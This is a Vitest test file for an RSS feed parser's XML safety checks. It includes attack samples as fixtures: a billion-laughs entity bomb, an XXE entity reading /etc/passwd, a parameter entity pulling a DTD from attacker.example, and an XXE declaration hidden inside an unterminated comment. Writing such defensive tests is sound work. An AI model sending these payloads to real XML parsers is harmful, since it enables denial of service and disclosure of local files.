import { describe, expect, it } from 'vitest';
import { FeedParseError } from './errors.ts';
import { parseFeed } from './parse-feed.ts';
import { utf8 } from './testdata/read.ts';
import { assertNoEntityDeclaration, assertSafeXml, withoutDeclaredEntities } from './xml-safety.ts';
import { parseXml, textContent } from './xml-tree.ts';
import { reasonOf } from './testdata/read.ts';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title></channel></rss>`;

const XXE = `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>`;

const PARAMETER_ENTITIES = `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>`;

describe('assertSafeXml', () => {
  it('reads the billion-laughs document with its declarations taken out, quickly, expanding nothing', () => {
    // CPU time, so a busy machine does not fail it: an expansion would take seconds of CPU.
    const started = process.cpuUsage();
    const feed = parseFeed(utf8(BILLION_LAUGHS), 'application/rss+xml');
    const used = process.cpuUsage(started);
    expect(feed.title).toBe('&lol9;');
    expect(feed.warnings).toContain(
      'the DOCTYPE declared 9 entities, ignored (never expanded): a reference to one stays as written, unless it names an HTML entity',
    );
    expect((used.user + used.system) / 1000).toBeLessThan(500);
  });

  it('reads a document declaring an external entity (XXE) without reading what it names', () => {
    const feed = parseFeed(utf8(XXE), null);
    expect(feed.title).toBe('&xxe;');
    expect(JSON.stringify(feed)).not.toContain('root:');
  });

  it('refuses parameter entities', () => {
    expect(reasonOf(() => assertSafeXml(PARAMETER_ENTITIES))).toBe(
      'XML parameter entity declarations are not allowed (possible entity-expansion or external-entity attack)',
    );
  });

  it('refuses a lower-case spelling and a declaration hidden after the root element', () => {
    expect(() => assertSafeXml('<!doctype r [<!entity a "b">]><r/>')).toThrow(FeedParseError);
    expect(() => assertSafeXml('<rss><!DOCTYPE x [<!ENTITY a "b">]></rss>')).toThrow(FeedParseError);
  });

  it('accepts a plain DOCTYPE, and "<!ENTITY" as text inside CDATA or a comment', () => {
    expect(() =>
      assertSafeXml(
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss/>',
      ),
    ).not.toThrow();
    expect(() =>
      assertSafeXml(
        '<rss><!-- <!ENTITY x "y"> --><description><![CDATA[How <!ENTITY xxe SYSTEM> works]]></description></rss>',
      ),
    ).not.toThrow();
  });

  it('is not weakened by the lenient pass: a declaration anywhere in a broken document refuses it', () => {
    // assertSafeXml stops at an unterminated comment (the strict parser refuses the document anyway);
    // the lenient pass would read on, so it looks again, everywhere, before reading.
    const hidden = `<rss><channel><item><title>a</title></item><!-- unterminated <!ENTITY xxe SYSTEM "file:///etc/passwd"> &xxe;`;
    expect(() => assertSafeXml(hidden)).not.toThrow();
    expect(reasonOf(() => parseFeed(utf8(hidden), null))).toBe(
      'XML external entity declarations are not allowed (possible XXE attack reading local files or URLs)',
    );
    // Its DOCTYPE's subset taken out, the cut document is judged on its XML alone (no item to recover).
    expect(reasonOf(() => parseFeed(utf8(`${XXE.replace('</rss>', '</rss')}`), null))).toMatch(
      /^malformed XML at line 3/,
    );
    expect(() => assertNoEntityDeclaration('<rss><title>no declarations</title></rss>')).not.toThrow();
  });

  it('is not the only defence: the XML parser itself never expands declared entities', () => {
    const root = parseXml('<!DOCTYPE r [<!ENTITY a "EXPANDED">]><r>&a;</r>');
    expect(textContent(root)).toBe('&a;');
  });
});

describe('withoutDeclaredEntities', () => {
  it('takes out a DOCTYPE subset that declares entities, wherever in the prolog it is', () => {
    const declared = '<!DOCTYPE rss [<!ENTITY a "b">]>';
    for (const before of ['', '\uFEFF', '<?xml version="1.0"?>\n', '<!-- c -->\n<?pi x?>\n'])
      expect(withoutDeclaredEntities(`${before}${declared}<rss/>`)).toEqual({
        text: `${before}<!DOCTYPE rss ><rss/>`,
        declarations: 1,
      });
  });

  it('finds the end of the subset past a "]" or ">" in a quoted value, a comment or an instruction', () => {
    const doctype =
      '<!DOCTYPE rss PUBLIC "-//x[y]//EN" "http://e.example/a>b.dtd" [<!-- ] > --><?pi ]?>' +
      '<!ENTITY a "x]>y"><!ENTITY b \'z]\'>]>';
    expect(withoutDeclaredEntities(`${doctype}<rss>&a;</rss>`)).toEqual({
      text: '<!DOCTYPE rss PUBLIC "-//x[y]//EN" "http://e.example/a>b.dtd" ><rss>&a;</rss>',
      declarations: 2,
    });
  });

  it('leaves a document alone when no subset declares entities, or the subset has no end', () => {
    for (const text of [
      '<rss/>',
      '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "x.dtd"><rss/>',
      '<!DOCTYPE rss [<!ELEMENT rss ANY>]><rss/>',
      '<rss><!DOCTYPE x [<!ENTITY a "b">]></rss>', // not in the prolog: assertSafeXml refuses it
      '<!DOCTYPE rss [<!ENTITY a "b]><rss/>', // an unterminated value
      '<!DOCTYPE rss [<!ENTITY a "b">',
    ])
      expect(withoutDeclaredEntities(text)).toBeNull();
    expect(() => assertSafeXml('<!DOCTYPE rss [<!ENTITY a "b">')).toThrow(FeedParseError);
  });

  it("reads the feeds that declare XHTML's Latin-1 entities or one of their own (feedparser's and SimplePie's corpora)", () => {
    const latin1 = parseFeed(
      utf8(`<?xml version="1.0"?>
<!DOCTYPE rss [
<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent">
%HTMLlat1;
<!ENTITY helloworld "Hello World!">
]>
<rss version="0.91"><channel><title>Caf&eacute;</title><item><title>&helloworld;</title></item></channel></rss>`),
      null,
    );
    expect(latin1.title).toBe('Café');
    expect(latin1.items[0]?.title).toBe('&helloworld;');
  });
});
